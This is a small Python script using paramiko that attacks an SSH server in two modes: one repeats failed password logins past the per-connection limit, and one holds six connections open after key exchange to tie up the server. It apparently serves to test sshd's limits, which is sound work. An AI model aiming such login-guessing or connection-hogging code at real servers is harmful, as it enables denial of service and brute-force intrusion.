"""Attacks on sshd that no tool does as wanted: run by name on the attacker's host, until killed.

    attackers.py guess ADDRESS PORT     more guesses in a connection than sshd allows
    attackers.py idle ADDRESS PORT      key exchange, and then nothing
"""

import socket
import sys
import threading

import paramiko

PATIENCE = 5  # seconds for a connection to come about


def connect(address, port):
    """A connection after its key exchange, or None."""
    try:
        transport = paramiko.Transport(socket.create_connection((address, port), timeout=PATIENCE))
        transport.start_client(timeout=PATIENCE)
        return transport
    except (OSError, EOFError, paramiko.SSHException) as error:
        print("no connection:", error, flush=True)
        return None


def guess(address, port):
    while True:
        transport = connect(address, port)
        tries = 0
        while transport and transport.is_active():
            try:
                transport.auth_password("alice", f"wrong-{tries}", fallback=False)
                print("got in", flush=True)
                return
            except (EOFError, OSError, paramiko.SSHException) as error:
                tries += 1
                print(tries, error, flush=True)


def idle(address, port):
    def one():
        while True:
            transport = connect(address, port)
            if transport:
                transport.join()  # its thread ends with the connection
                print("hung up", flush=True)
    threads = [threading.Thread(target=one, daemon=True) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


{"guess": guess, "idle": idle}[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
